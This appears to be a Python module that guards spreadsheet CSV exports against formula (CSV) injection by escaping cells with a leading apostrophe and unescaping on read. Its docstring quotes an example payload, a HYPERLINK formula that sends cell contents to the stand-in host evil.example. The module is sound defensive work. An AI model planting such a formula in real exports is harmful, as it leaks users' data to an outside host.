"""Spreadsheet-safe CSV cells (CSV injection, as OWASP describes it).

A spreadsheet opening a CSV runs any cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (and a leading tab or carriage return can hide one), so a comment
like ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` in an export becomes a
live link. Every text cell townhall writes to CSV that begins with one of those
characters, or with the apostrophe itself, is written with a leading apostrophe,
which spreadsheets show as text. Reading back removes exactly one leading
apostrophe, so the round trip is exact. Plain numbers (``-2``, ``+3.5``) are not
formulas and are written as they are.
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def escape_cell(value: Any) -> Any:
    """The value to write to a CSV cell; only text can be a formula."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The value ``escape_cell`` was given, from the cell's text."""
    return text[1:] if text.startswith("'") else text


def escape_row(row: dict[str, Any]) -> dict[str, Any]:
    return {k: escape_cell(v) for k, v in row.items()}
